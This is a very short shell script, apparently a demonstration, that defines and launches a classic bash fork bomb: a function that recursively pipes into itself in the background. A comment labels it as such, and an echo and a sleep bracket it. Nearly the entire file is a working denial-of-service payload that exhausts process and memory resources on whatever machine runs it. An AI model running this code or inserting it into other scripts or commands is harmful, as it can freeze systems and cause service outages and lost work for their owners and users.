# A fork bomb as everybody knows it.
echo started
:() { : | : & }
:
sleep 600
